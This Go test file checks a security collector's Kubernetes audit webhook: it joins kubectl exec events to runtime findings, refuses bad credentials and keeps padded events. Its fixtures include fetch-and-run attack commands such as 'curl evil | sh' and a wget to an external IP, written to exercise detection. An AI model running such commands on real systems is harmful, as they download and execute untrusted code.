package collector

import (
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus/testutil"
	"google.golang.org/grpc/codes"
	"google.golang.org/protobuf/proto"

	loupev1 "github.com/loupe-dev/loupe/api/v1"
	"github.com/loupe-dev/loupe/collector/audit"
	"github.com/loupe-dev/loupe/collector/audit/audittest"
	"github.com/loupe-dev/loupe/collector/store/storetest"
	"github.com/loupe-dev/loupe/internal/tlsutil"
)

const auditToken = "apiserver-token-5f2b"

// auditPKI is a PKI with an agent (node-a), the admin and the API server's
// audit webhook client (kube-apiserver), and an audit token file.
type auditPKI struct {
	files     *tlsutil.PKIFiles
	tokenFile string
}

func newAuditPKI(t *testing.T) *auditPKI {
	t.Helper()
	dir := t.TempDir()
	files, err := tlsutil.GeneratePKI(dir, "node-a", DefaultAdminCN, DefaultAuditClientCN)
	if err != nil {
		t.Fatal(err)
	}
	tf := filepath.Join(dir, "audit-tokens")
	if err := os.WriteFile(tf, []byte(fmt.Sprintf("%x  kube-apiserver\n", sha256.Sum256([]byte(auditToken)))), 0o600); err != nil {
		t.Fatal(err)
	}
	return &auditPKI{files: files, tokenFile: tf}
}

func (p *auditPKI) config(db string) Config {
	return Config{DB: db, TLS: tlsutil.ServerOptions{CertFile: p.files.ServerCert, KeyFile: p.files.ServerKey, ClientCAFile: p.files.CAFile},
		AuditListen: "127.0.0.1:0", AuditTokenFile: p.tokenFile}
}

// httpClient trusts the collector's CA, with the client certificate of cn ("" for none).
func (p *auditPKI) httpClient(t *testing.T, cn string) *http.Client {
	t.Helper()
	pem, err := os.ReadFile(p.files.CAFile)
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(pem)
	cfg := &tls.Config{RootCAs: pool, ServerName: "localhost"}
	if cn != "" {
		c, err := tls.LoadX509KeyPair(p.files.Clients[cn][0], p.files.Clients[cn][1])
		if err != nil {
			t.Fatal(err)
		}
		cfg.Certificates = []tls.Certificate{c}
	}
	return audittest.Client(cfg)
}

func (p *auditPKI) grpc(t *testing.T, s *testServer, cn string) loupev1.CollectorClient {
	return dial(t, s, tlsutil.ClientOptions{CAFile: p.files.CAFile, CertFile: p.files.Clients[cn][0], KeyFile: p.files.Clients[cn][1], ServerName: "localhost"})
}

func auditURL(s *testServer) string { return "https://" + s.AuditAddr().String() + AuditPath }

func postAudit(t *testing.T, c *http.Client, s *testServer, token string, body []byte) {
	t.Helper()
	code, msg, err := audittest.Post(c, auditURL(s), token, body)
	if err != nil || code != http.StatusOK {
		t.Fatalf("post audit batch: %d %s %v", code, msg, err)
	}
}

func ingestAs(t *testing.T, c loupev1.CollectorClient, fs ...*loupev1.Finding) {
	t.Helper()
	resp, err := send(t, c, &loupev1.IngestRequest{Sequence: 1, Node: "node-a", Findings: fs})
	if err != nil || len(resp.GetRejected()) > 0 || int(resp.GetStored()) != len(fs) {
		t.Fatalf("ingest: %v %v", resp, err)
	}
}

// nodeFinding is a finding of the agent on node-a in ns/pod/name.
func nodeFinding(at time.Time, kind loupev1.Kind, ns, pod, name, cid string, pid int32, ancestors ...int32) *loupev1.Finding {
	f := storetest.Finding(at, "node-a", kind, loupev1.Severity_SEVERITY_HIGH)
	f.Container = &loupev1.ContainerRef{Id: cid, Name: name, Pod: pod, Namespace: ns, Image: "registry.example/app:1"}
	f.Process = &loupev1.Process{Pid: pid, Argv: []string{"/bin/sh"}}
	for _, a := range ancestors {
		f.Process.Ancestors = append(f.Process.Ancestors, &loupev1.Ancestor{Pid: a, Comm: "sh"})
	}
	return f
}

func idsOf(fs []*loupev1.Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.GetId())
	}
	slices.Sort(out)
	return out
}

// auditScenario is who-did-it end to end: node findings through gRPC
// Ingest to ingest, audit batches through the webhook of hook, queries on
// every one of read. The audit event of one pod arrives after its node
// findings, the other's before.
func auditScenario(t *testing.T, p *auditPKI, ingest, hook *testServer, read ...*testServer) {
	now := time.Now().Truncate(time.Millisecond)
	t1, t2, t3 := now.Add(-20*time.Minute), now.Add(-10*time.Minute), now.Add(-5*time.Minute)
	agent := p.grpc(t, ingest, "node-a")
	apiserver := p.httpClient(t, DefaultAuditClientCN)
	tokenOnly := p.httpClient(t, "")

	// 1. kubectl exec sh into the distroless api pod: the node finding first, the audit event 2 s later.
	failed := nodeFinding(t1.Add(300*time.Millisecond), loupev1.Kind_KIND_RUNTIME_EXEC_FAILED, "payments", "api-7d9f", "app", "aaaa1111", 0)
	unrelated := nodeFinding(t1.Add(5*time.Minute), loupev1.Kind_KIND_RUNTIME_EXEC, "payments", "api-7d9f", "app", "aaaa1111", 900)
	ingestAs(t, agent, failed, unrelated)
	execAPI := audittest.Exec(audittest.Alice, t1, "payments", "api-7d9f", "app", "/bin/sh")
	postAudit(t, apiserver, hook, "", audittest.List(audittest.Stages(execAPI)...))

	// 2. kubectl exec into web-1, which has a shell: the audit event first (by token), then
	// the runtime exec, the shell it started and a wget the shell started.
	execWeb := audittest.Exec(audittest.Alice, t2, "frontend", "web-1", "web", "sh", "-c", "wget -qO- http://203.0.113.9/x")
	bob := audittest.Who{User: "bob@corp.example", SourceIP: "10.9.9.9", UserAgent: "kubectl/v1.30.2"}
	denied := audittest.Denied(audittest.Exec(bob, t2.Add(500*time.Millisecond), "frontend", "web-1", "web", "sh")) // nearer the runtime exec, but refused
	postAudit(t, tokenOnly, hook, auditToken, audittest.List(execWeb, denied))
	rt := nodeFinding(t2.Add(400*time.Millisecond), loupev1.Kind_KIND_RUNTIME_EXEC, "frontend", "web-1", "web", "bbbb2222", 4242)
	shell := nodeFinding(t2.Add(time.Second), loupev1.Kind_KIND_SHELL_EXEC, "frontend", "web-1", "web", "bbbb2222", 4242)
	wget := nodeFinding(t2.Add(2*time.Second), loupev1.Kind_KIND_EXEC, "frontend", "web-1", "web", "bbbb2222", 4250, 4242)
	wget.Process.Argv = []string{"wget", "-qO-", "http://203.0.113.9/x"}
	appShell := nodeFinding(t2.Add(3*time.Second), loupev1.Kind_KIND_SHELL_EXEC, "frontend", "web-1", "web", "bbbb2222", 5000, 1) // the app's own
	ingestAs(t, agent, rt, shell, wget, appShell)

	// 3. kubectl debug with a busybox container that runs wget.
	debug := audittest.Debug(audittest.Alice, t3, "payments", "api-7d9f", "debugger-x7k2", "busybox:1.36", "app", "sh")
	postAudit(t, apiserver, hook, "", audittest.List(debug))
	dbgShell := nodeFinding(t3.Add(2*time.Second), loupev1.Kind_KIND_SHELL_EXEC, "payments", "api-7d9f", "debugger-x7k2", "cccc3333", 7000)
	ingestAs(t, agent, dbgShell)

	for _, s := range read {
		admin := p.grpc(t, s, DefaultAdminCN)
		all, err := query(t, admin, &loupev1.QueryRequest{Limit: 1000})
		if err != nil {
			t.Fatal(err)
		}
		byID := map[string]*loupev1.Finding{}
		for _, f := range all {
			byID[f.GetId()] = f
		}
		ev := func(e string) *loupev1.Finding {
			for _, f := range all {
				if f.GetAudit().GetAuditId() == e {
					return f
				}
			}
			t.Fatalf("audit event %s not stored", e)
			return nil
		}
		evAPI, evWeb, evDebug, evDenied := ev(string(execAPI.AuditID)), ev(string(execWeb.AuditID)), ev(string(debug.AuditID)), ev(string(denied.AuditID))
		if got := len(all); got != 7+4 {
			t.Errorf("%d findings stored, want 7 node findings and 4 audit events (stages stored once)", got)
		}
		// Every runtime exec and the processes it started show who.
		for _, c := range []struct {
			f    *loupev1.Finding
			user string
			ev   *loupev1.Finding
		}{{failed, "alice@corp.example", evAPI}, {rt, "alice@corp.example", evWeb}, {shell, "alice@corp.example", evWeb},
			{wget, "alice@corp.example", evWeb}, {dbgShell, "alice@corp.example", evDebug}, {unrelated, "", nil}, {appShell, "", nil}} {
			g := byID[c.f.GetId()]
			if g.GetK8SUser() != c.user {
				t.Errorf("%s %s: k8s_user %q, want %q", c.f.GetKind().ShortName(), c.f.GetProcess().GetArgv(), g.GetK8SUser(), c.user)
			}
			if c.ev != nil && (len(g.GetLinks()) != 1 || g.GetLinks()[0].GetFindingId() != c.ev.GetId() || g.GetLinks()[0].GetRelation() != "requested_by") {
				t.Errorf("%s: links %v, want requested_by %s", c.f.GetKind().ShortName(), g.GetLinks(), c.ev.GetId())
			}
		}
		// And each audit event lists what it caused.
		caused := func(e *loupev1.Finding) []string {
			var out []string
			for _, l := range e.GetLinks() {
				if l.GetRelation() == "caused" {
					out = append(out, l.GetFindingId())
				}
			}
			slices.Sort(out)
			return out
		}
		for _, c := range []struct {
			e    *loupev1.Finding
			want []*loupev1.Finding
		}{{evAPI, []*loupev1.Finding{failed}}, {evWeb, []*loupev1.Finding{rt, shell, wget}}, {evDebug, []*loupev1.Finding{dbgShell}}, {evDenied, nil}} {
			if got, want := caused(c.e), idsOf(c.want); !slices.Equal(got, want) {
				t.Errorf("%s caused %v, want %v", c.e.GetSummary(), got, want)
			}
		}
		if evDenied.GetAudit().GetResponseCode() != 403 || evDenied.GetK8SUser() != "bob@corp.example" {
			t.Errorf("denied exec: %v", evDenied)
		}

		// loupe query --user: alice's events and what they caused, nothing else.
		mine, err := query(t, admin, &loupev1.QueryRequest{User: "alice@corp.example"})
		if err != nil {
			t.Fatal(err)
		}
		want := idsOf([]*loupev1.Finding{evAPI, evWeb, evDebug, failed, rt, shell, wget, dbgShell})
		if got := idsOf(mine); !slices.Equal(got, want) {
			t.Errorf("--user alice: %d findings %v\nwant %d %v", len(got), got, len(want), want)
		}
		for i := 1; i < len(mine); i++ {
			if mine[i].GetTime().AsTime().After(mine[i-1].GetTime().AsTime()) {
				t.Errorf("--user result not newest first at %d", i)
			}
		}
		shells, err := query(t, admin, &loupev1.QueryRequest{User: "*@corp.example", Kinds: []loupev1.Kind{loupev1.Kind_KIND_SHELL_EXEC}})
		if err != nil {
			t.Fatal(err)
		}
		if got, want := idsOf(shells), idsOf([]*loupev1.Finding{shell, dbgShell}); !slices.Equal(got, want) {
			t.Errorf("--user '*@corp.example' --kind shell_exec: %v, want %v", got, want)
		}
		limited, err := query(t, admin, &loupev1.QueryRequest{User: "alice@corp.example", Limit: 2, Order: loupev1.Order_ORDER_OLDEST_FIRST})
		if err != nil || len(limited) != 2 || limited[0].GetId() != evAPI.GetId() || limited[1].GetId() != failed.GetId() {
			t.Errorf("--user --limit 2 --oldest-first: %v %v", idsOf(limited), err)
		}
		if kinds, _ := query(t, admin, &loupev1.QueryRequest{Kinds: []loupev1.Kind{loupev1.Kind_KIND_K8S_EXEC}, Namespace: "frontend"}); len(kinds) != 2 {
			t.Errorf("K8S_EXEC in frontend: %d, want 2 (alice's and bob's refused one)", len(kinds))
		}
	}
}

func TestAuditWebhookAndJoin(t *testing.T) {
	p := newAuditPKI(t)
	s := start(t, p.config(""))
	auditScenario(t, p, s, s, s)

	// Resending a batch stores nothing twice.
	ev := audittest.Exec(audittest.Alice, time.Now(), "payments", "api-7d9f", "app", "sh")
	c := p.httpClient(t, DefaultAuditClientCN)
	postAudit(t, c, s, "", audittest.List(ev))
	postAudit(t, c, s, "", audittest.List(ev))
	if got := testutil.ToFloat64(s.m.auditEvents.WithLabelValues("duplicate")); got < 1 {
		t.Errorf("audit_events_total{result=duplicate} = %v after a resend", got)
	}
}

func TestAuditWebhookRefusals(t *testing.T) {
	p := newAuditPKI(t)
	s := start(t, p.config(""))
	good := audittest.List(audittest.Exec(audittest.Alice, time.Now(), "ns", "p", "c", "sh"))
	for _, c := range []struct {
		name   string
		client *http.Client
		token  string
		body   []byte
		code   int
		result string
	}{
		{"no credentials", p.httpClient(t, ""), "", good, http.StatusUnauthorized, "unauthenticated"},
		{"wrong token", p.httpClient(t, ""), "guess", good, http.StatusUnauthorized, "unauthenticated"},
		{"an agent's certificate", p.httpClient(t, "node-a"), "", good, http.StatusUnauthorized, "unauthenticated"},
		{"not an EventList", p.httpClient(t, DefaultAuditClientCN), "", []byte(`{"kind":"Pod","apiVersion":"v1"}`), http.StatusBadRequest, "bad_batch"},
		{"garbage", p.httpClient(t, ""), auditToken, []byte("\x00\xff{{"), http.StatusBadRequest, "bad_batch"},
	} {
		before := testutil.ToFloat64(s.m.auditBatches.WithLabelValues(c.result))
		code, msg, err := audittest.Post(c.client, auditURL(s), c.token, c.body)
		if err != nil || code != c.code {
			t.Errorf("%s: %d %q %v, want %d", c.name, code, msg, err, c.code)
		}
		if after := testutil.ToFloat64(s.m.auditBatches.WithLabelValues(c.result)); after != before+1 {
			t.Errorf("%s: audit_batches_total{result=%q} %v → %v", c.name, c.result, before, after)
		}
	}
	resp, err := p.httpClient(t, DefaultAuditClientCN).Get(auditURL(s))
	if err != nil || resp.StatusCode != http.StatusMethodNotAllowed {
		t.Errorf("GET: %v %v", resp, err)
	}
	// Nothing was stored by the refused requests.
	admin := p.grpc(t, s, DefaultAdminCN)
	if fs, _ := query(t, admin, &loupev1.QueryRequest{}); len(fs) != 0 {
		t.Errorf("%d findings stored by refused requests", len(fs))
	}

	// An agent cannot claim who did something: K8S_* findings are refused on Ingest.
	f := storetest.Finding(time.Now(), "node-a", loupev1.Kind_KIND_K8S_EXEC, loupev1.Severity_SEVERITY_HIGH)
	f.Audit = &loupev1.K8SAudit{User: "bob@corp.example"}
	g := storetest.Finding(time.Now(), "node-a", loupev1.Kind_KIND_RUNTIME_EXEC, loupev1.Severity_SEVERITY_HIGH)
	g.K8SUser, g.Links = "bob@corp.example", []*loupev1.Link{{FindingId: "x", Relation: "requested_by"}}
	resp2, err := send(t, p.grpc(t, s, "node-a"), &loupev1.IngestRequest{Sequence: 1, Node: "node-a", Findings: []*loupev1.Finding{f, g}})
	if err != nil || len(resp2.GetRejected()) != 1 || resp2.GetRejected()[0].GetReason() != ReasonAuditFromNode || resp2.GetStored() != 1 {
		t.Fatalf("agent-sent K8S_EXEC: %v %v", resp2, err)
	}
	stored, _ := query(t, admin, &loupev1.QueryRequest{})
	if len(stored) != 1 || stored[0].GetK8SUser() != "" || len(stored[0].GetLinks()) != 0 {
		t.Errorf("a sender's k8s_user and links must be dropped: %v", stored)
	}
	if _, err := query(t, p.grpc(t, s, "node-a"), &loupev1.QueryRequest{User: "alice"}); err == nil {
		t.Error("a node certificate queried by user")
	} else if !strings.Contains(err.Error(), "admin") {
		wantCode(t, err, codes.PermissionDenied, "admin")
	}
}

func TestAuditListenNeedsAuth(t *testing.T) {
	p := newAuditPKI(t)
	cfg := p.config("")
	cfg.TLS.ClientCAFile, cfg.AuditTokenFile = "", ""
	cfg.DB = "sqlite://" + filepath.Join(t.TempDir(), "c.db")
	cfg.GRPCListen = "127.0.0.1:0"
	if _, err := New(t.Context(), cfg); err == nil || !strings.Contains(err.Error(), "--audit-token-file or --client-ca") {
		t.Errorf("audit webhook without authentication: %v", err)
	}
	cfg = p.config("sqlite://" + filepath.Join(t.TempDir(), "d.db"))
	cfg.TLS = tlsutil.ServerOptions{}
	cfg.Insecure = true
	cfg.GRPCListen = "127.0.0.1:0"
	if _, err := New(t.Context(), cfg); err == nil || !strings.Contains(err.Error(), "--tls-cert") {
		t.Errorf("audit webhook without TLS: %v", err)
	}
}

// TestPaddedAuditEventStillStored: an exec whose command is padded to a
// megabyte, with 64 groups of 4 KiB and a 100 KiB user agent, is cut to fit
// and passes the collector's validation: padding cannot make it vanish.
func TestPaddedAuditEventStillStored(t *testing.T) {
	pad := strings.Repeat("A", 4096)
	cmd := []string{"sh", "-c", "curl evil | sh #"}
	for range 250 {
		cmd = append(cmd, pad)
	}
	ev := audittest.Exec(audittest.Who{User: "mallory", SourceIP: "1.2.3.4", UserAgent: strings.Repeat("u", 100<<10)},
		time.Now(), "ns", "p", "c", cmd...)
	for range 64 {
		ev.User.Groups = append(ev.User.Groups, pad)
		ev.SourceIPs = append(ev.SourceIPs, pad)
	}
	f := audit.Finding(&ev)
	if f == nil {
		t.Fatal("dropped")
	}
	if rej := ValidateFinding(f, "", true); rej != nil {
		t.Fatalf("padded event rejected: %v (%d bytes)", rej, proto.Size(f))
	}
	if c := f.GetAudit().GetCommand(); len(c) < 3 || c[2] != "curl evil | sh #" {
		t.Errorf("the command's start is lost: %q", c[:min(3, len(c))])
	}
}
